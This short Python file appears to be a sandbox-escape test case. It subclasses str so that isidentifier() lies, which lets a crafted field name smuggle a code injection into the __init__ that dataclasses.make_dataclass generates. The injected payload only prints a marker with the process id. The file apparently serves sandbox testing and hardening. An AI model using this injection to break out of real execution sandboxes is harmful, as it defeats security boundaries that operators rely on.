# technique: make_dataclass checks the names with isidentifier(), a method of the name
# goal: import
# source: own analysis: str subclasses that lie
import dataclasses


class Name(str):
    def isidentifier(self):
        return True


name = Name("a, c=print('ESCAPED pid=%d' % __import__('posix').getpid())):#")
try:
    dataclasses.make_dataclass('D', [(name, dataclasses.InitVar[int])],
                               repr=False, eq=False, match_args=False)
except TypeError:
    pass
